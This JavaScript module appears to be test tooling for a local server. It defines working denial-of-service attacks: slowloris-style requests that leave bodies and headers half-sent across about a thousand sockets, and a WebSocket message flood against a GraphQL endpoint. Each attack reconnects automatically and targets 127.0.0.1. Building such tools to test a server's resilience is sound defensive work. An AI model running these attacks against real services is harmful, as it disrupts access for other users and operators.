// Attacks with which one client without a key could slow down other clients. Each attack runs until it is stopped.
import { connect } from 'node:net';
import { WebSocket } from 'ws';

/**
 * Keeps a number of requests (`sockets`) open. Sends only one of the nine bytes of each request's body.
 * @returns a function that stops the attack.
 */
export function halfSentBodies(port, sockets = 1010) {
  const head = `POST /pets HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{`;
  return keepOpen(port, sockets, head);
}

/**
 * Keeps a number of requests (`sockets`) open, and never completes their headers.
 * @returns a function that stops the attack.
 */
export function halfSentHeads(port, sockets = 1010) {
  return keepOpen(port, sockets, `GET /pets HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
}

function keepOpen(port, sockets, text) {
  const open = new Set();
  let isOver = false;
  const start = () => {
    const socket = connect(port, '127.0.0.1');
    open.add(socket);
    socket.on('error', () => undefined).on('data', () => socket.destroy());
    socket.on('close', () => {
      open.delete(socket);
      if (!isOver) setTimeout(start, 100);
    });
    socket.write(text);
  };
  for (let i = 0; i < sockets; i++) start();
  return () => {
    isOver = true;
    for (const socket of open) socket.destroy();
  };
}

/**
 * Sends one message again and again, as fast as possible. Reconnects when it is disconnected.
 * @returns a function that stops the attack.
 */
export function messageFlood(port, message = '{"type":"ping"}') {
  let isOver = false;
  let socket;
  const send = () => {
    if (socket.readyState !== WebSocket.OPEN) return;
    for (let i = 0; i < 1000; i++) socket.send(message);
    setImmediate(send);
  };
  const start = () => {
    if (isOver) return;
    socket = new WebSocket(`ws://127.0.0.1:${port}/graphql`, 'graphql-transport-ws');
    socket.on('error', () => undefined).on('open', send);
    socket.on('close', () => setTimeout(start, 10));
  };
  start();
  return () => {
    isOver = true;
    socket.terminate();
  };
}
